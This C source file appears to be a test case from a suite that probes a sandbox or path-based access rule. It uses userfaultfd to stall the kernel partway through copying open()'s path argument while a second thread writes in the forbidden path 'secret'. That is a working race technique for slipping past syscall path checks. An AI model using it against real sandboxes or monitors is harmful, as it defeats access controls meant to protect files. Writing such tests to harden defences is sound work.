/* SPDX-License-Identifier: Apache-2.0 */
/*
 * A path whose page is not there yet when the call begins, and comes from a thread that waits for that moment.
 *
 * userfaultfd stops the kernel in the middle of copying the argument, for as long as the attacker likes (Phantom v2).
 *
 * ---
 * tries: [B9]
 * rule: secret
 * wins: secret
 * may_lack: userfaultfd
 */
#include "attack.h"
#include <linux/userfaultfd.h>
#include <pthread.h>
#include <sys/ioctl.h>

static char *page;
static int faults;

static void *answer(void *unused)
{
	static char path[4096] __attribute__((aligned(4096)));
	struct uffdio_copy copy = { .dst = (unsigned long)page, .src = (unsigned long)path, .len = 4096 };
	struct uffd_msg fault;

	if (read(faults, &fault, sizeof(fault)) == sizeof(fault)) {
		usleep(10000);
		strcpy(path, V("secret"));
		ioctl(faults, UFFDIO_COPY, &copy);
	}
	return unused;
}

int main(void)
{
	struct uffdio_api api = { .api = UFFD_API };
	struct uffdio_register area = { .mode = UFFDIO_REGISTER_MODE_MISSING };
	pthread_t thread;

	faults = syscall(SYS_userfaultfd, O_CLOEXEC);
	if (faults < 0)
		return lacking("userfaultfd");
	page = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
	area.range.start = (unsigned long)page;
	area.range.len = 4096;
	must(ioctl(faults, UFFDIO_API, &api), "UFFDIO_API");
	must(ioctl(faults, UFFDIO_REGISTER, &area), "UFFDIO_REGISTER");
	must(pthread_create(&thread, NULL, answer, NULL), "thread");
	return show(open(page, O_RDONLY));
}
